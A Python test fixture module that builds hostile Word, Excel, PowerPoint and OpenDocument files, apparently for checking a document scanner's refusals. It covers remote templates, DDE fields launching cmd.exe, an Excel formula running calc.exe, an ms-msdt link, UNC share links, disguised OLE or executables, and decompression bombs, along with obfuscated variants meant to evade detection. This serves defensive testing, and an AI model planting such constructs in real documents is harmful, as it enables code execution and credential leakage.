"""Office documents that run, load, embed or only wear out whoever opens them, by what they do."""

import zipfile
from collections.abc import Callable
from io import BytesIO

from tests.security import files

# Its ending, its content, made only when it is its turn, and the code of the refusal.
Hostile = tuple[str, Callable[[], bytes], str]
MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        f'<Relationships><Relationship Id="a" Type="{TYPES}/{kind}" Target="{target}"'
        f' TargetMode="{mode}"/></Relationships>'
    ).encode()


def text(body: str) -> bytes:
    return f'<w:document xmlns:w="{MAIN}"><w:body>{body}</w:body></w:document>'.encode()


def field(*codes: str) -> str:
    """A field whose code stands in so many pieces."""
    pieces = "".join(
        # A field may stand in a field.
        code if code.startswith("<") else f"<w:r><w:instrText>{code}</w:instrText></w:r>"
        for code in codes
    )
    return _marked("begin") + pieces + _marked("separate") + "<w:t>1</w:t>" + _marked("end")


def _marked(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def open_document(body: str, **further: bytes) -> bytes:
    """A text of LibreOffice's; the usual short names stand for their namespaces."""
    names = {
        "xlink": "http://www.w3.org/1999/xlink",
        **{
            short: f"urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"
            for short, name in {
                **{name: name for name in ("office", "text", "table", "script", "presentation")},
                "draw": "drawing",
            }.items()
        },
    }
    spaces = " ".join(f'xmlns:{short}="{name}"' for short, name in names.items())
    content = f"<office:document-content {spaces}>{body}</office:document-content>"
    return files.office("odt", **{"content.xml": content.encode(), **further})


def _word(name: str, content: bytes) -> Callable[[], bytes]:
    return lambda: files.office("docx", **{name: content})


def _text(body: str) -> Callable[[], bytes]:
    return _word("word/document.xml", text(body))


def _loads(kind: str, target: str = "https://elsewhere.example/a") -> Callable[[], bytes]:
    return _word("word/_rels/document.xml.rels", relation(kind, target))


def _sheet(body: str) -> Callable[[], bytes]:
    content = f"<worksheet>{body}</worksheet>".encode()
    return lambda: files.office("xlsx", **{"xl/worksheets/sheet1.xml": content})


def _typed(kind: str) -> Callable[[], bytes]:
    content = f'<Types><Override PartName="/a" ContentType="application/{kind}"/></Types>'
    return _word("[Content_Types].xml", content.encode())


def _odt(body: str) -> Callable[[], bytes]:
    return lambda: open_document(body)


def _inner(**parts: bytes) -> Callable[[], bytes]:
    book = files.office("xlsx", **parts)
    return lambda: files.office("pptx", **{"ppt/embeddings/Sheet1.xlsx": book})


def _twice() -> bytes:
    output = BytesIO(files.office("docx"))
    with zipfile.ZipFile(output, "a") as archive:
        archive.writestr("Word/Document.xml", text(field("DDEAUTO cmd")))
    return output.getvalue()


def _rows(count: int) -> bytes:
    cells = "".join(f"<c>{number * 7919 % 99991}</c>" for number in range(count))
    return files.office("xlsx", **{"xl/worksheets/sheet1.xml": f"<w>{cells}</w>".encode()})


CALL = "cmd|'/c calc.exe'!A0"
MACRO = "vnd.sun.star.script:Library1.Module1.Main?language=Basic"
OFFICE: dict[str, Hostile] = {
    "template elsewhere": ("docx", _loads("attachedTemplate"), "outside"),
    "template on a share": ("docx", _loads("attachedTemplate", r"\\1.2.3.4\a.dotm"), "outside"),
    "object elsewhere": ("docx", _loads("oleObject"), "object"),
    "picture elsewhere": ("docx", _loads("image"), "outside"),
    "frame elsewhere": ("docx", _loads("frame"), "outside"),
    "part elsewhere": ("docx", _loads("subDocument"), "outside"),
    "film elsewhere": ("docx", _loads("video"), "outside"),
    "link to a script": ("docx", _loads("hyperlink", "java&#x0A;script:alert(1)"), "outside"),
    "link to a share": ("docx", _loads("hyperlink", r"\\1.2.3.4\a"), "outside"),
    "link to a program": ("docx", _loads("hyperlink", "ms-msdt:/id PCWDiagnostic"), "outside"),
    "template in UTF-16": (
        "docx",
        _word(
            "word/_rels/document.xml.rels",
            relation("attachedTemplate", "https://a.example/a.dotm").decode().encode("utf-16"),
        ),
        "outside",
    ),
    "relation of an unknown file": (
        "docx",
        _word("word/_rels/x.rels", relation("image", "https://elsewhere.example/a")),
        "outside",
    ),
    "page for a part": (
        "docx",
        _word("word/_rels/a.rels", relation("aFChunk", "a.mht", "Internal")),
        "object",
    ),
    "macros by their relation": (
        "docx",
        _word("word/_rels/a.rels", relation("vbaProject", "harmless.dat", "Internal")),
        "macros",
    ),
    "macros by their type": ("docx", _typed("vnd.ms-word.document.macroEnabled.main"), "macros"),
    "macro sheet by its type": ("docx", _typed("vnd.ms-excel.macrosheet+xml"), "macros"),
    "macro sheet": (
        "xlsx",
        lambda: files.office("xlsx", **{"xl/macrosheets/sheet1.xml": b"<a/>"}),
        "macros",
    ),
    "OLE under another name": (
        "docx",
        _word("word/media/image1.dat", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)),
        "object",
    ),
    "program under another name": ("docx", _word("word/media/a.png", b"MZ\x90" * 9), "object"),
    "OLE in the text": (
        "docx",
        _text("<w:object><OLEObject ProgID='Package'/></w:object>"),
        "object",
    ),
    "archive for a part": ("docx", _word("word/embeddings/a.zip", files.office()), "object"),
    "DDEAUTO": ("docx", _text(field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ")), "command"),
    "DDE in pieces": ("docx", _text(field(" D", "D", "E cmd")), "command"),
    "DDE in a simple field": ("docx", _text('<w:fldSimple w:instr=" dde cmd "/>'), "command"),
    "DDE as plain text": (
        "docx",
        _text(_marked("begin") + "<w:r><w:t>DDEAUTO cmd</w:t></w:r>" + _marked("end")),
        "command",
    ),
    "DDE by signs": ("docx", _text(field("&#68;&#x44;E cmd")), "command"),
    "elements in a code": ("docx", _text(field(" D<w:b/>DE cmd ")), "damaged"),
    "DDE in a field": ("docx", _text(field(" IF 1 = ", field(" DDE a b "))), "command"),
    "name made by a field": (
        "docx",
        _text(_marked("begin") + field(" QUOTE 68 68 69 ") + _marked("end")),
        "command",
    ),
    "spelt by numbers": ("docx", _text(field(' SET c "x" \\* QUOTE 68 68 69 ')), "command"),
    "picture by a field": (
        "docx",
        _text(field(' INCLUDEPICTURE "https://a.example/a" ')),
        "outside",
    ),
    "text by a field": ("docx", _text(field(' INCLUDETEXT "https://a.example/a" ')), "outside"),
    "entities of its own": (
        "docx",
        _word("word/document.xml", b'<!DOCTYPE a [<!ENTITY b "DDE">]><a>&b;</a>'),
        "damaged",
    ),
    "part twice": ("docx", _twice, "damaged"),
    "deep": ("docx", _text("<w:p>" * 5_000 + "</w:p>" * 5_000), "intricate"),
    "a million cells": ("xlsx", lambda: _rows(1_000_000), "intricate"),
    "long text": ("docx", lambda: _word("word/a.xml", _long())(), "intricate"),
    "link to another book": (
        "xlsx",
        lambda: files.office(
            "xlsx", **{"xl/_rels/workbook.xml.rels": relation("externalLink", "a.xml", "Internal")}
        ),
        "outside",
    ),
    "DDE link": (
        "xlsx",
        lambda: files.office(
            "xlsx",
            **{"xl/externalLinks/externalLink1.xml": b'<x><ddeLink ddeService="cmd"/></x>'},
        ),
        "command",
    ),
    "data from a server": (
        "xlsx",
        lambda: files.office(
            "xlsx", **{"xl/_rels/workbook.xml.rels": relation("connections", "a.xml", "Internal")}
        ),
        "outside",
    ),
    "DDE in a cell": ("xlsx", _sheet(f"<c><f>{CALL}</f></c>"), "command"),
    "DDE behind a sum": ("xlsx", _sheet(f'<c><f>SUM(1,"a|b")+{CALL}</f></c>'), "command"),
    "web in a cell": ("xlsx", _sheet('<f>_xlfn.WEBSERVICE("https://a.example")</f>'), "command"),
    "program of a slide": (
        "pptx",
        lambda: files.office(
            "pptx", **{"ppt/slides/slide1.xml": b'<p><hlinkClick action="ppaction://program"/></p>'}
        ),
        "command",
    ),
    "macros in a diagram's book": ("pptx", _inner(**{"xl/vbaProject.bin": b"x"}), "macros"),
    "book in a book in a book": (
        "pptx",
        _inner(**{"xl/embeddings/a.xlsx": files.office("xlsx")}),
        "object",
    ),
    "script of a text": ("odt", _odt('<office:script script:language="a"/>'), "macros"),
    "script of an event": (
        "odt",
        _odt(f'<script:event-listener script:event-name="dom:load" xlink:href="{MACRO}"/>'),
        "macros",
    ),
    "link to a macro": ("odt", _odt(f'<text:a xlink:href="{MACRO}">a</text:a>'), "outside"),
    "section elsewhere": (
        "odt",
        _odt('<text:section-source xlink:href="https://a.example/a.odt"/>'),
        "outside",
    ),
    "section on a share": (
        "odt",
        _odt('<text:section-source xlink:href="file://1.2.3.4/a/b.odt"/>'),
        "outside",
    ),
    "drawing elsewhere": ("odt", _odt('<draw:image xlink:href="https://a.example/a"/>'), "outside"),
    "object of a file": ("odt", _odt('<draw:object xlink:href="../../b.odt"/>'), "outside"),
    "OLE of a text": ("odt", _odt('<draw:object-ole xlink:href="./Object 1"/>'), "object"),
    "applet": ("odt", _odt('<draw:applet draw:code="a"/>'), "object"),
    "window to elsewhere": ("odt", _odt('<draw:floating-frame xlink:href="a.html"/>'), "object"),
    "DDE of a text": ("odt", _odt('<text:dde-connection-decl office:dde-topic="a"/>'), "command"),
    "DDE of a table": (
        "ods",
        _odt('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>'),
        "command",
    ),
    "other file of a table": (
        "ods",
        _odt("<table:table-cell table:formula=\"of:=['file:///a.ods'#$A.A1]\"/>"),
        "outside",
    ),
    "program of a presentation": (
        "odp",
        _odt('<presentation:event-listener presentation:action="execute"/>'),
        "command",
    ),
    "encrypted": (
        "odt",
        lambda: open_document("", **{"META-INF/manifest.xml": b"<m><encryption-data/></m>"}),
        "damaged",
    ),
}


def _long() -> bytes:
    # Words that pack to a sixth: were they alike, their ratio alone would tell.
    words = (f"{number * 7919 % 99991:05} " for number in range(12_000_000))
    return f"<t>{''.join(words)}</t>".encode()
